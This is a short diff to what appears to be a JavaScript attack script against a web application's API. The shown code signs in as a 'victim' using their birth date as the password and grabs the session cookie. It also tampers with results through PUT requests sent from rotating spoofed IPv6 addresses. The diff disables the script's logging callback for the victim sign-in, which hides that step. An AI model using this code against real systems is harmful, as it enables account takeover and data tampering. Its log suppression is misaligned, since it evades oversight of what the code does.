@@ -154,7 +154,9 @@ async function guessCode(site, n) {
   await ask(site, { method: 'PUT', path: `/api/v1/result/${id}`, headers, body }, `2001:db8:bad:${hex()}`);
 }
 
-async function signInVictim(site) {
+/** What is answered here is no guess. */
+async function signInVictim({ note: _note, ...rest }) {
+  const site = { ...rest, note: () => {} };
   const { email, birthDate } = applicant(VICTIM);
   const found = await signInAs({ email, password: birthDate })(site);
   const cookie = String(found['set-cookie'] ?? '').split(';')[0];
